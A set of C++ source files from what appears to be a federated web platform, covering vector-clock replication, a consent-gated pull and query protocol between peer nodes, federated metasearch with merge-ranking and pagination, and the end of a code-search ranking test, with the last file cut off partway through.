  search.add_entry({"devA/photolib", "photo manipulation library"});
  search.add_entry({"devB/photoapp", "photo sharing application"});
  search.add_entry({"devC/blogtool", "blogging tool"});
  search.refresh();

  // Text gate.
  const auto photo_hits = search.search("photo");
  ASSERT_EQ(photo_hits.size(), 2u);
  const auto blog_hits = search.search("blog");
  ASSERT_EQ(blog_hits.size(), 1u);
  EXPECT_EQ(blog_hits[0].module_id, "devC/blogtool");
  EXPECT_TRUE(search.search("nonexistent").empty());

  // photolib dominates on pagerank (0.6 weight, normalized to 1.0).
  EXPECT_EQ(photo_hits[0].module_id, "devA/photolib");
  EXPECT_GT(photo_hits[0].pagerank_score, photo_hits[1].pagerank_score);
  EXPECT_GT(photo_hits[1].editor_score, 0.0);
  EXPECT_GT(photo_hits[1].popularity_score, 0.0);

  // Limit applies after sorting.
  EXPECT_EQ(search.search("", 2).size(), 2u);
}

TEST(CodeSearchTest, WeightAblationChangesWinner) {
  DependencyGraph graph;
  for (int i = 0; i < 5; ++i) {
    graph.add_edge("a" + std::to_string(i), "wellimported",
                   DependencyKind::kImport);
  }
  graph.add_node("wellendorsed");
  EditorBoard editors;
  editors.endorse("editor", "wellendorsed", 1.0);
  PopularityTracker popularity;

  SearchWeights rank_only{.pagerank = 1.0, .editors = 0.0, .popularity = 0.0};
  CodeSearch by_rank(graph, editors, popularity, rank_only);
  by_rank.add_entry({"wellimported", ""});
  by_rank.add_entry({"wellendorsed", ""});
  by_rank.refresh();
  EXPECT_EQ(by_rank.search("")[0].module_id, "wellimported");

  SearchWeights editors_only{.pagerank = 0.0, .editors = 1.0,
                             .popularity = 0.0};
  CodeSearch by_editor(graph, editors, popularity, editors_only);
  by_editor.add_entry({"wellimported", ""});
  by_editor.add_entry({"wellendorsed", ""});
  by_editor.refresh();
  EXPECT_EQ(by_editor.search("")[0].module_id, "wellendorsed");
}

}  // namespace
}  // namespace w5::rank
