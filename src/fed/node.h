// A federated W5 node: one provider plus the peering machinery of §3.3.
//
// Nodes talk over the in-memory network (or any Connection) using a small
// HTTP+JSON protocol:
//
//   POST /fed/pull   {"peer": <requesting node>, "user": <id>,
//                     "since": {<collection/id>: <vector clock>}}
//   → {"records": [{collection, id, owner, data, clock, updated}]}
//
//   POST /fed/query  {"peer": <requesting node>, "user": <id>,
//                     "collection": <name>, "q": <terms>,
//                     "eq_field"/"eq_value": <equality>, "limit": <n>}
//   → {"provider": <name>, "records": [{collection, id, owner, data,
//                                       clock, updated}]}
//   The read half of §3.3 (DESIGN.md §18): answers from the local query
//   engine, under the same mirror-consent gate as /fed/pull — the peer
//   only sees records of users who authorized mirroring toward it, and
//   the scan is metered against the "fed:<peer>" query-budget principal.
//
// The serving node releases a user's records only through the mirror
// declassifier (user consent for that specific peer); the pulling node
// re-classifies imports under its *own* tags for the user — labels never
// cross the wire, policy travels by re-stamping, exactly the
// import/export-declassifier design the paper sketches.
#pragma once

#include <map>
#include <memory>
#include <vector>
#include <string>

#include "core/provider.h"
#include "fed/mirror.h"
#include "fed/vector_clock.h"
#include "net/backoff.h"
#include "net/circuit_breaker.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/transport.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::fed {

struct SyncStats {
  std::size_t offered = 0;    // records the peer sent
  std::size_t applied = 0;    // records written locally
  std::size_t skipped = 0;    // already up to date (peer ≤ local)
  std::size_t conflicts = 0;  // concurrent edits resolved
};

class Node {
 public:
  // `name` is the node's federation identity and its address on the
  // in-memory network ("fed://<name>").
  Node(std::string name, platform::Provider& provider,
       net::InMemoryNetwork& network);
  ~Node();

  Node(const Node&) = delete;
  Node& operator=(const Node&) = delete;

  const std::string& name() const noexcept { return name_; }
  MirrorAuthorizer& mirrors() noexcept { return mirrors_; }
  platform::Provider& provider() noexcept { return provider_; }
  // The wire this node lives on; the metasearch fan-out dials through it.
  net::InMemoryNetwork& network() noexcept { return network_; }

  // Local user write that participates in replication: stores the record
  // with the user's standard labels and ticks this node's clock axis.
  util::Status put_user_record(const std::string& user,
                               const std::string& collection,
                               const std::string& id, util::Json data);

  // Local delete that replicates as a tombstone: peers that pull see the
  // deletion and drop their copy (last-writer-wins against edits).
  util::Status delete_user_record(const std::string& user,
                                  const std::string& collection,
                                  const std::string& id);

  bool has_tombstone(const std::string& collection,
                     const std::string& id) const;

  // Pulls every mirroring-authorized user's records from the peer and
  // merges them (one direction; run both ways for convergence).
  //
  // Robustness (DESIGN.md §12): each per-user pull is retried with
  // exponential backoff on transient transport errors; a per-peer circuit
  // breaker opens after consecutive sync failures, after which sync_from
  // fails fast with "fed.circuit_open" until the cooldown elapses and a
  // half-open probe succeeds. The breaker state is exported as the gauge
  // w5_fed_breaker_state{peer="..."} (0=closed, 1=half-open, 2=open).
  util::Result<SyncStats> sync_from(const std::string& peer_name);

  // ---- Robustness knobs --------------------------------------------------
  // Wraps every dialed peer connection; the fault-injection harness uses
  // this to interpose FaultyConnection between the node and the wire.
  using ConnectionDecorator = std::function<std::unique_ptr<net::Connection>(
      std::unique_ptr<net::Connection>)>;
  void set_connection_decorator(ConnectionDecorator decorator) {
    decorator_ = std::move(decorator);
  }
  // Retry policy for per-user pulls. The sleeper defaults to no_sleep():
  // the in-memory wire fails deterministically, so waiting between
  // attempts only slows tests; pass real_sleep() over real transports.
  void set_retry_policy(net::RetryPolicy policy,
                        net::SleepFn sleep = net::no_sleep()) {
    retry_policy_ = policy;
    retry_sleep_ = std::move(sleep);
  }
  // The peer's breaker, created on first use (never null).
  net::CircuitBreaker& breaker_for(const std::string& peer_name);

  // Replication metadata for one record (empty clock when unknown).
  VectorClock clock_of(const std::string& collection,
                       const std::string& id) const;

  // Connection-close hop decorator shared with Metasearch (it wraps its
  // fan-out dials through the same knob when per-peer wrapping is off).
  const ConnectionDecorator& connection_decorator() const noexcept {
    return decorator_;
  }

 private:
  // The tracing perimeter around both federation endpoints (context,
  // route, echo, X-W5-Spans), dispatching to the serve_* handlers.
  net::HttpResponse handle_request(const net::HttpRequest& request);
  net::HttpResponse serve_pull(const net::HttpRequest& request);
  // POST /fed/query: one peer's leg of a metasearch fan-out.
  net::HttpResponse serve_query(const net::HttpRequest& request);

  // Stores under the owner's standard labels without touching clocks
  // (shared by local writes and imports).
  util::Status write_local(const std::string& user,
                           const std::string& collection,
                           const std::string& id, util::Json data);

  util::Result<SyncStats> apply_records(const std::string& peer,
                                        const util::Json& records);

  // One user's pull round trip against one peer (no retry, no breaker —
  // sync_from layers those on top).
  util::Result<SyncStats> pull_user(const std::string& peer_name,
                                    const std::string& user);

  std::string address() const { return "fed://" + name_; }

  std::string name_;
  platform::Provider& provider_;
  net::InMemoryNetwork& network_;
  MirrorAuthorizer mirrors_;
  net::HttpServer server_;
  std::vector<std::unique_ptr<net::Connection>> pending_;
  // (collection, id) -> clock
  std::map<std::pair<std::string, std::string>, VectorClock> clocks_;
  // (collection, id) -> deletion time; present only while deleted.
  std::map<std::pair<std::string, std::string>, util::Micros> tombstones_;
  ConnectionDecorator decorator_;
  net::RetryPolicy retry_policy_;
  net::SleepFn retry_sleep_ = net::no_sleep();
  // Per-peer breakers; unique_ptr because CircuitBreaker is immovable
  // (mutex) and the map must not invalidate references on rehash. The
  // map itself is the only Node state touched from concurrent sync
  // drivers (clocks_/tombstones_ are externally serialized per node), so
  // it gets its own leaf mutex; the returned breaker synchronizes
  // internally.
  mutable util::Mutex breakers_mutex_{util::lockrank::kFedBreakers,
                                       "Node::breakers_mutex_"};
  std::map<std::string, std::unique_ptr<net::CircuitBreaker>> breakers_
      W5_GUARDED_BY(breakers_mutex_);
};

}  // namespace w5::fed
