#include "fed/vector_clock.h"

#include <algorithm>

namespace w5::fed {

std::uint64_t VectorClock::at(const std::string& axis) const {
  const auto it = counters_.find(axis);
  return it == counters_.end() ? 0 : it->second;
}

void VectorClock::tick(const std::string& axis) { ++counters_[axis]; }

void VectorClock::merge(const VectorClock& other) {
  for (const auto& [axis, count] : other.counters_)
    counters_[axis] = std::max(counters_[axis], count);
  // Drop zero entries that max() may have created.
  std::erase_if(counters_, [](const auto& entry) { return entry.second == 0; });
}

ClockOrder VectorClock::compare(const VectorClock& other) const {
  bool less_somewhere = false;   // this < other on some axis
  bool greater_somewhere = false;
  const auto check = [&](const std::string& axis) {
    const std::uint64_t mine = at(axis);
    const std::uint64_t theirs = other.at(axis);
    if (mine < theirs) less_somewhere = true;
    if (mine > theirs) greater_somewhere = true;
  };
  for (const auto& [axis, count] : counters_) check(axis);
  for (const auto& [axis, count] : other.counters_) check(axis);
  if (!less_somewhere && !greater_somewhere) return ClockOrder::kEqual;
  if (less_somewhere && greater_somewhere) return ClockOrder::kConcurrent;
  return less_somewhere ? ClockOrder::kBefore : ClockOrder::kAfter;
}

std::string VectorClock::to_string() const {
  std::string out = "[";
  bool first = true;
  for (const auto& [axis, count] : counters_) {
    if (!first) out += ",";
    first = false;
    out += axis + ":" + std::to_string(count);
  }
  return out + "]";
}

util::Json VectorClock::to_json() const {
  util::Json out;
  out.mutable_object();
  for (const auto& [axis, count] : counters_) out[axis] = count;
  return out;
}

util::Result<VectorClock> VectorClock::from_json(const util::Json& j) {
  if (!j.is_object())
    return util::make_error("fed.parse", "vector clock must be object");
  VectorClock clock;
  for (const auto& [axis, count] : j.as_object()) {
    if (!count.is_number() || count.as_int(-1) < 0)
      return util::make_error("fed.parse", "bad clock counter");
    if (count.as_int() > 0)
      clock.counters_[axis] = static_cast<std::uint64_t>(count.as_int());
  }
  return clock;
}

}  // namespace w5::fed
