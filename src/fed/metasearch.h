// Federated metasearch: the scatter/gather query plane (DESIGN.md §18).
//
// One labeled query fans out to every provider the user authorized for
// mirroring (MirrorAuthorizer::peers_for), in parallel — one hop thread
// per peer over the in-memory wire — while the home provider's own query
// engine answers the local leg. Partials are merged (fed/merge.h:
// vector-clock dedupe, tf-idf merge-rank, §3.5-quantized facets, cursor
// pagination) and the page degrades gracefully instead of blanking:
//
//   - a deadline budget caps the gather; hops still in flight at the
//     cutoff are abandoned (joined later) and reported as "timeout";
//   - per-peer circuit breakers (shared with sync_from) skip peers that
//     keep failing, reported as "breaker_open";
//   - any missing peer marks the page partial (X-W5-Fed-Partial at the
//     gateway) — results from the peers that did answer still serve.
//
// Every hop is a traced span: the request thread pre-opens a span id per
// peer, the hop carries it on the wire as X-W5-Parent, and after the
// gather the peer's X-W5-Spans dump is grafted under it — the whole
// fan-out reads as one stitched tree at /trace/:id.
//
// Threading: hop threads touch only the wire (dial/write/pump/read) for
// their one peer; breaker accounting, span emission, metrics, and the
// merge all happen on the request thread after the gather. One fan-out
// may be in flight per Metasearch at a time per peer set (the in-memory
// network serializes per listener, which one-hop-thread-per-peer
// guarantees). Destroy the Metasearch before its Node/network — the
// destructor joins abandoned hop threads first.
#pragma once

#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "fed/merge.h"
#include "fed/node.h"
#include "util/metrics.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::fed {

struct MetasearchConfig {
  // Wall-clock budget for the whole gather; tightened by the request's
  // remaining deadline (X-W5-Deadline-Ms at the gateway) when smaller.
  util::Micros fanout_budget_micros = 2'000'000;
  // Per-source result cap (each peer and the local leg).
  std::size_t per_peer_limit = 50;
  MergeWeights weights{};
};

// One peer's fate in a fan-out, for the response's "peers" listing and
// the partial-failure report.
struct PeerOutcome {
  std::string peer;
  // "ok" | "timeout" | "error" | "breaker_open"
  std::string status;
  std::string error_code;  // non-empty for "error"
  std::size_t records = 0;
};

struct MetaPage {
  std::vector<MergedRecord> records;  // the requested window, scored
  util::Json facets = util::Json::object();
  std::string next_cursor;
  bool partial = false;
  std::vector<PeerOutcome> peers;  // remote legs only
  difc::Label local_secrecy;       // union over local-leg records
};

class Metasearch {
 public:
  explicit Metasearch(Node& node, MetasearchConfig config = {});
  ~Metasearch();  // joins abandoned hop threads

  Metasearch(const Metasearch&) = delete;
  Metasearch& operator=(const Metasearch&) = delete;

  // Runs one fan-out as `user`. The local store leg runs under `pid`
  // (contaminating it per the usual read rule); remote legs carry only
  // the query, and each peer enforces its own consent gate.
  util::Result<MetaPage> search(os::Pid pid, const std::string& user,
                                const platform::FederatedQuery& query);

  // Installs the provider hook serving GET /fed/search and
  // AppContext::federated_search — the only way core/ and apps/ reach
  // this plane (the layering DAG has no apps→fed or core→fed edge).
  void install();

  // Wraps each fan-out dial, keyed by peer — the chaos suite injects
  // per-peer FaultyConnections here. Falls back to the Node's decorator.
  using PeerDecorator = std::function<std::unique_ptr<net::Connection>(
      const std::string& peer, std::unique_ptr<net::Connection>)>;
  void set_connection_decorator(PeerDecorator decorator) {
    decorator_ = std::move(decorator);
  }

  const MetasearchConfig& config() const noexcept { return config_; }

 private:
  struct Gather;  // shared request-thread/hop-thread state

  // One peer hop, run on its own thread: dial, send, pump, read one
  // response into the gather slot.
  static void run_hop(net::InMemoryNetwork& network,
                      const std::shared_ptr<Gather>& gather,
                      std::size_t index);

  // Renders a MetaPage into the wire/body shape FederatedPage carries.
  static util::Json render_body(const MetaPage& page);

  Node& node_;
  MetasearchConfig config_;
  PeerDecorator decorator_;

  // Metrics, resolved once (w5_fed_query_*).
  util::Counter* fanouts_total_;
  util::Counter* partial_total_;
  util::Counter* peer_ok_total_;
  util::Counter* peer_timeout_total_;
  util::Counter* peer_error_total_;
  util::Counter* peer_skipped_total_;
  util::Counter* dedup_dropped_total_;
  util::Counter* records_merged_total_;
  util::Histogram* fanout_latency_;

  // Hops abandoned at the cutoff keep running until their I/O returns;
  // they are joined opportunistically on the next search and finally in
  // the destructor. Each entry keeps the shared gather state alive (the
  // hop's result slot lives there) and remembers which slot, so reaping
  // can tell "finished, join is instant" from "still sleeping in a
  // fault" without blocking.
  struct Straggler {
    std::thread thread;
    std::shared_ptr<Gather> gather;
    std::size_t hop = 0;
  };
  util::Mutex stragglers_mutex_{util::lockrank::kFedStragglers,
                                "Metasearch::stragglers_mutex_"};
  std::vector<Straggler> stragglers_ W5_GUARDED_BY(stragglers_mutex_);
  void reap_stragglers(bool join_all);
};

}  // namespace w5::fed
