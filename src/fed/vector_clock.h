// Vector clocks for cross-provider replication (paper §3.3: "whenever the
// user updated his data on one platform, the changes would propagate to
// the other").
//
// Each provider is a clock axis. Clocks order replica versions causally;
// concurrent updates are detected and resolved deterministically by the
// sync layer.
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "util/json.h"
#include "util/result.h"

namespace w5::fed {

enum class ClockOrder : std::uint8_t {
  kEqual,
  kBefore,      // this happened-before other
  kAfter,       // other happened-before this
  kConcurrent,  // divergent replicas
};

class VectorClock {
 public:
  VectorClock() = default;

  std::uint64_t at(const std::string& axis) const;
  void tick(const std::string& axis);

  // Pointwise maximum.
  void merge(const VectorClock& other);

  ClockOrder compare(const VectorClock& other) const;

  bool empty() const noexcept { return counters_.empty(); }
  const std::map<std::string, std::uint64_t>& counters() const noexcept {
    return counters_;
  }

  std::string to_string() const;

  util::Json to_json() const;
  static util::Result<VectorClock> from_json(const util::Json& j);

  friend bool operator==(const VectorClock&, const VectorClock&) = default;

 private:
  std::map<std::string, std::uint64_t> counters_;
};

}  // namespace w5::fed
