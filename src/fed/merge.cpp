#include "fed/merge.h"

#include <algorithm>
#include <bit>
#include <cstdint>
#include <map>

#include "rank/relevance.h"

namespace w5::fed {

namespace {

void collect_strings(const util::Json& value, std::string& out) {
  if (value.is_string()) {
    if (!out.empty()) out += ' ';
    out += value.as_string();
  } else if (value.is_array()) {
    for (const auto& item : value.as_array()) collect_strings(item, out);
  } else if (value.is_object()) {
    for (const auto& [key, item] : value.as_object())
      collect_strings(item, out);
  }
}

// Duplicate resolution, mirroring Node::apply_records: dominance by
// vector clock; concurrent replicas resolved by newer wall-clock, ties
// by smaller provider name — both sides of any pair pick the same
// winner, and search picks the replica sync would converge to.
bool wins_over(const MergedRecord& challenger, const MergedRecord& champion) {
  switch (challenger.clock.compare(champion.clock)) {
    case ClockOrder::kAfter:
      return true;
    case ClockOrder::kBefore:
    case ClockOrder::kEqual:
      return false;
    case ClockOrder::kConcurrent:
      if (challenger.updated != champion.updated)
        return challenger.updated > champion.updated;
      return challenger.provider < champion.provider;
  }
  return false;
}

std::string hex_u64(std::uint64_t value) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out(16, '0');
  for (int i = 15; i >= 0; --i) {
    out[static_cast<std::size_t>(i)] = kDigits[value & 0xF];
    value >>= 4;
  }
  return out;
}

bool parse_hex_u64(std::string_view text, std::uint64_t* out) {
  if (text.size() != 16) return false;
  std::uint64_t value = 0;
  for (const char c : text) {
    value <<= 4;
    if (c >= '0' && c <= '9') {
      value |= static_cast<std::uint64_t>(c - '0');
    } else if (c >= 'a' && c <= 'f') {
      value |= static_cast<std::uint64_t>(c - 'a' + 10);
    } else {
      return false;
    }
  }
  *out = value;
  return true;
}

}  // namespace

std::string record_text(const std::string& id, const util::Json& data) {
  std::string text = id;
  collect_strings(data, text);
  return text;
}

bool record_matches_terms(const std::string& id, const util::Json& data,
                          const std::vector<std::string>& terms) {
  if (terms.empty()) return true;
  const std::vector<std::string> tokens =
      rank::tokenize(record_text(id, data));
  for (const std::string& term : terms) {
    if (std::find(tokens.begin(), tokens.end(), term) == tokens.end())
      return false;
  }
  return true;
}

std::vector<MergedRecord> dedupe_by_clock(std::vector<MergedRecord> records,
                                          std::size_t* dropped) {
  std::map<std::string, MergedRecord> winners;
  std::size_t losers = 0;
  for (MergedRecord& record : records) {
    const std::string key = record.key();
    auto [it, inserted] = winners.try_emplace(key, std::move(record));
    if (inserted) continue;
    ++losers;
    // try_emplace with a taken key does not move from `record`.
    if (wins_over(record, it->second)) it->second = std::move(record);
  }
  if (dropped != nullptr) *dropped = losers;
  std::vector<MergedRecord> out;
  out.reserve(winners.size());
  for (auto& [key, record] : winners) out.push_back(std::move(record));
  return out;
}

void score_and_sort(std::vector<MergedRecord>& records,
                    const std::vector<std::string>& terms,
                    const MergeWeights& weights) {
  rank::RelevanceScorer scorer(terms);
  std::int64_t oldest = 0;
  std::int64_t newest = 0;
  for (std::size_t i = 0; i < records.size(); ++i) {
    scorer.add_document(record_text(records[i].id, records[i].data));
    if (i == 0) {
      oldest = newest = records[i].updated;
    } else {
      oldest = std::min(oldest, records[i].updated);
      newest = std::max(newest, records[i].updated);
    }
  }
  const double best_text = scorer.max_score();
  const double age_span = static_cast<double>(newest - oldest);
  for (std::size_t i = 0; i < records.size(); ++i) {
    // With no terms every record's text share is equal (1.0): ordering
    // then falls to freshness and locality, never to scorer noise.
    const double text =
        terms.empty() ? 1.0
        : best_text > 0.0 ? scorer.score(i) / best_text
                          : 0.0;
    const double freshness =
        age_span > 0.0
            ? static_cast<double>(records[i].updated - oldest) / age_span
            : 1.0;
    const double locality = records[i].local ? 1.0 : 0.0;
    records[i].score = weights.text * text + weights.freshness * freshness +
                       weights.locality * locality;
  }
  std::stable_sort(records.begin(), records.end(),
                   [](const MergedRecord& a, const MergedRecord& b) {
                     if (a.score != b.score) return a.score > b.score;
                     const std::string ka = a.key();
                     const std::string kb = b.key();
                     if (ka != kb) return ka < kb;
                     return a.provider < b.provider;
                   });
}

util::Json facet_counts(const std::vector<MergedRecord>& records,
                        const std::vector<std::string>& fields,
                        const QuantizeFn& quantize) {
  util::Json facets = util::Json::object();
  for (const std::string& field : fields) {
    std::map<std::string, std::size_t> counts;
    for (const MergedRecord& record : records) {
      if (!record.data.is_object()) continue;
      const util::Json& value = record.data.at(field);
      if (!value.is_string()) continue;
      ++counts[value.as_string()];
    }
    util::Json by_value = util::Json::object();
    for (const auto& [value, count] : counts) {
      by_value[value] = static_cast<std::int64_t>(
          quantize ? quantize(count) : count);
    }
    facets[field] = std::move(by_value);
  }
  return facets;
}

std::string encode_cursor(double score, const std::string& key) {
  return "v1:" + hex_u64(std::bit_cast<std::uint64_t>(score)) + ":" + key;
}

bool decode_cursor(const std::string& cursor, double* score,
                   std::string* key) {
  constexpr std::string_view kPrefix = "v1:";
  if (cursor.size() < kPrefix.size() + 17) return false;
  if (std::string_view(cursor).substr(0, kPrefix.size()) != kPrefix)
    return false;
  std::uint64_t bits = 0;
  if (!parse_hex_u64(
          std::string_view(cursor).substr(kPrefix.size(), 16), &bits))
    return false;
  if (cursor[kPrefix.size() + 16] != ':') return false;
  *score = std::bit_cast<double>(bits);
  *key = cursor.substr(kPrefix.size() + 17);
  return !key->empty();
}

util::Result<MergedPage> paginate(std::vector<MergedRecord> sorted,
                                  const std::string& cursor,
                                  std::size_t limit) {
  std::size_t start = 0;
  if (!cursor.empty()) {
    double after_score = 0.0;
    std::string after_key;
    if (!decode_cursor(cursor, &after_score, &after_key))
      return util::make_error("fed.bad_cursor", "malformed merge cursor");
    // Resume strictly after the cursor position in (score desc, key asc)
    // order. Exact bit-pattern score equality — the cursor was encoded
    // from these very values.
    while (start < sorted.size()) {
      const MergedRecord& record = sorted[start];
      if (record.score < after_score ||
          (record.score == after_score && record.key() > after_key))
        break;
      ++start;
    }
  }
  MergedPage page;
  const std::size_t end = std::min(sorted.size(), start + limit);
  for (std::size_t i = start; i < end; ++i)
    page.records.push_back(std::move(sorted[i]));
  if (end < sorted.size() && !page.records.empty()) {
    const MergedRecord& last = page.records.back();
    page.next_cursor = encode_cursor(last.score, last.key());
  }
  return page;
}

}  // namespace w5::fed
