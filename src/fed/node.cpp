#include "fed/node.h"

#include <algorithm>
#include <optional>

#include "core/gateway.h"
#include "fed/merge.h"
#include "net/tracing.h"
#include "rank/relevance.h"
#include "util/strings.h"

namespace w5::fed {

Node::Node(std::string name, platform::Provider& provider,
           net::InMemoryNetwork& network)
    : name_(std::move(name)),
      provider_(provider),
      network_(network),
      server_([this](const net::HttpRequest& request) {
        return handle_request(request);
      }) {
  // Accepted connections are parked until the dialer pumps us — the
  // single-threaded in-memory transport means request bytes arrive only
  // after dial() returns.
  network_.listen(
      address(),
      [this](std::unique_ptr<net::Connection> conn) {
        pending_.push_back(std::move(conn));
      },
      [this] {
        for (auto& conn : pending_)
          if (conn && !conn->closed()) server_.serve(*conn);
        std::erase_if(pending_, [](const auto& conn) {
          return conn == nullptr || conn->closed();
        });
      });
}

Node::~Node() { network_.unlisten(address()); }

util::Status Node::write_local(const std::string& user,
                               const std::string& collection,
                               const std::string& id, util::Json data) {
  const platform::UserAccount* account = provider_.users().find(user);
  if (account == nullptr)
    return util::make_error("user.not_found", "no user '" + user + "'");
  store::Record record;
  record.collection = collection;
  record.id = id;
  record.owner = user;
  record.data = std::move(data);
  record.labels =
      difc::ObjectLabels{difc::Label{account->secrecy_tag},
                         difc::Label{account->write_tag}};
  // Trusted front-end path endorsed as the user (same as /data upload).
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "fed:put:" + user,
      difc::LabelState({account->secrecy_tag}, {account->write_tag}, {}));
  auto status = provider_.store().put(pid, std::move(record));
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  return status;
}

util::Status Node::put_user_record(const std::string& user,
                                   const std::string& collection,
                                   const std::string& id, util::Json data) {
  if (auto status = write_local(user, collection, id, std::move(data));
      !status.ok()) {
    return status;
  }
  // Only *original* local writes advance this node's axis; imports merge
  // the remote clock instead (no tick), or replicas would ping-pong
  // forever, each sync looking like a fresh concurrent edit.
  clocks_[{collection, id}].tick(name_);
  tombstones_.erase({collection, id});  // resurrection clears the grave
  return util::ok_status();
}

util::Status Node::delete_user_record(const std::string& user,
                                      const std::string& collection,
                                      const std::string& id) {
  const platform::UserAccount* account = provider_.users().find(user);
  if (account == nullptr)
    return util::make_error("user.not_found", "no user '" + user + "'");
  const os::Pid pid = provider_.kernel().spawn_trusted(
      "fed:delete:" + user,
      difc::LabelState({account->secrecy_tag}, {account->write_tag}, {}));
  auto status = provider_.store().remove(pid, collection, id);
  (void)provider_.kernel().exit(pid);
  provider_.kernel().reap(pid);
  if (!status.ok()) return status;
  clocks_[{collection, id}].tick(name_);
  tombstones_[{collection, id}] = provider_.clock().now();
  return util::ok_status();
}

bool Node::has_tombstone(const std::string& collection,
                         const std::string& id) const {
  return tombstones_.contains({collection, id});
}

net::HttpResponse Node::handle_request(const net::HttpRequest& request) {
  // Federation serving perimeter: the same trace plumbing the gateway
  // gives app requests. A validated inbound X-W5-Trace makes this hop a
  // child of the dialer's trace; the response carries our span dump back
  // (X-W5-Spans) for stitching.
  const auto inherited = request.headers.get(net::kTraceHeader);
  platform::RequestContext::Sampling sampling =
      platform::RequestContext::Sampling::kInherit;
  if (const auto sampled = request.headers.get(net::kSampledHeader)) {
    if (*sampled == "0") sampling = platform::RequestContext::Sampling::kOff;
    if (*sampled == "1") sampling = platform::RequestContext::Sampling::kOn;
  }
  platform::RequestContext context(
      inherited ? std::string_view(*inherited) : std::string_view{},
      sampling);
  if (const auto parent = request.headers.get(net::kParentHeader)) {
    if (util::parse_u64(*parent)) context.set_parent_span(*parent);
  }
  static const std::string kPullRoute = "fed.pull";
  static const std::string kQueryRoute = "fed.query";
  const bool is_query = request.parsed.path == "/fed/query";
  context.set_route(is_query ? kQueryRoute : kPullRoute);
  net::HttpResponse response =
      is_query ? serve_query(request) : serve_pull(request);
  context.set_status(response.status);
  if (!context.id().empty())
    response.headers.set(std::string(net::kTraceHeader), context.id());
  platform::Trace trace = context.finish();
  if (context.inherited() && trace.sampled) {
    std::string wire = platform::encode_spans_for_wire(trace);
    if (!wire.empty())
      response.headers.set(std::string(net::kSpansHeader), std::move(wire));
  }
  if (!trace.id.empty()) provider_.traces().record(std::move(trace));
  return response;
}

net::HttpResponse Node::serve_pull(const net::HttpRequest& request) {
  const auto fail = [](int status, const std::string& code) {
    util::Json body;
    body["error"] = code;
    return net::HttpResponse::json(status, body.dump());
  };
  if (request.parsed.path != "/fed/pull" ||
      request.method != net::Method::kPost) {
    return fail(404, "unknown federation endpoint");
  }
  auto body = util::Json::parse(request.body);
  if (!body.ok()) return fail(400, "body must be JSON");
  const std::string peer = body.value().at("peer").as_string();
  const std::string user = body.value().at("user").as_string();
  if (peer.empty() || user.empty()) return fail(400, "peer and user required");

  // The §3.3 consent check: this user must have handed the mirror
  // declassifier their export privilege toward this peer.
  if (auto allowed = mirrors_.check(user, peer); !allowed.ok()) {
    provider_.audit().record(platform::AuditKind::kExportBlocked,
                             "fed/mirror", user,
                             allowed.error().code + " peer=" + peer);
    return fail(403, allowed.error().code);
  }

  // Export every record the user owns whose clock the peer is missing;
  // the clock table is the authoritative index across collections.
  util::Json since = body.value().at("since");
  util::Json records = util::Json::array();
  platform::ScopedSpan export_span("fed.export");
  for (const auto& [key, clock] : clocks_) {
    const auto& [collection, id] = key;
    const auto tombstone = tombstones_.find(key);
    const bool deleted = tombstone != tombstones_.end();
    auto record = provider_.store().get(os::kKernelPid, collection, id);
    if (!deleted && (!record.ok() || record.value().owner != user)) continue;

    auto peer_clock = VectorClock{};
    const util::Json& since_entry = since.at(collection + "/" + id);
    if (since_entry.is_object()) {
      auto parsed = VectorClock::from_json(since_entry);
      if (parsed.ok()) peer_clock = std::move(parsed).value();
    }
    const ClockOrder order = clock.compare(peer_clock);
    if (order == ClockOrder::kBefore || order == ClockOrder::kEqual)
      continue;  // peer already has everything we know

    util::Json item;
    item["collection"] = collection;
    item["id"] = id;
    item["clock"] = clock.to_json();
    if (deleted) {
      item["deleted"] = true;
      item["owner"] = user;
      item["updated"] = tombstone->second;
    } else {
      item["owner"] = record.value().owner;
      item["data"] = record.value().data;
      item["updated"] = record.value().updated_micros;
    }
    records.push_back(std::move(item));
    provider_.audit().record(platform::AuditKind::kExportAllowed,
                             "fed/mirror", collection + "/" + id,
                             "peer=" + peer + " user=" + user);
  }
  export_span.set_note("records=" +
                       std::to_string(records.as_array().size()));
  util::Json response;
  response["records"] = std::move(records);
  return net::HttpResponse::json(200, response.dump());
}

net::HttpResponse Node::serve_query(const net::HttpRequest& request) {
  const auto fail = [](int status, const std::string& code) {
    util::Json body;
    body["error"] = code;
    return net::HttpResponse::json(status, body.dump());
  };
  if (request.method != net::Method::kPost)
    return fail(404, "unknown federation endpoint");
  auto body = util::Json::parse(request.body);
  if (!body.ok()) return fail(400, "body must be JSON");
  const std::string peer = body.value().at("peer").as_string();
  const std::string user = body.value().at("user").as_string();
  const std::string collection = body.value().at("collection").as_string();
  if (peer.empty() || user.empty() || collection.empty())
    return fail(400, "peer, user, and collection required");

  // The same §3.3 consent gate as /fed/pull: absent this user's explicit
  // authorization toward this peer, not even record *names* answer.
  if (auto allowed = mirrors_.check(user, peer); !allowed.ok()) {
    provider_.audit().record(platform::AuditKind::kExportBlocked,
                             "fed/metasearch", user,
                             allowed.error().code + " peer=" + peer);
    return fail(403, allowed.error().code);
  }

  store::QueryOptions options;
  options.owner = user;
  options.eq_field = body.value().at("eq_field").as_string();
  options.eq_value = body.value().at("eq_value").as_string();
  options.limit = static_cast<std::size_t>(
      std::clamp(body.value().at("limit").as_int(50), std::int64_t{1},
                 std::int64_t{200}));
  // The §3.5 budget meters the *peer*, whatever user it asks about —
  // a chatty federation partner exhausts its own allowance, not ours.
  options.principal = "fed:" + peer;
  const std::vector<std::string> terms =
      rank::tokenize(body.value().at("q").as_string());
  if (!terms.empty()) {
    options.predicate = [&terms](const store::Record& record) {
      return record_matches_terms(record.id, record.data, terms);
    };
  }

  platform::ScopedSpan answer_span("fed.answer");
  auto records =
      provider_.store().query(os::kKernelPid, collection, options);
  if (!records.ok()) {
    answer_span.set_note("err=" + records.error().code);
    return fail(records.error().code == "store.query_budget" ? 429 : 403,
                records.error().code);
  }
  util::Json items = util::Json::array();
  for (const store::Record& record : records.value()) {
    util::Json item;
    item["collection"] = record.collection;
    item["id"] = record.id;
    item["owner"] = record.owner;
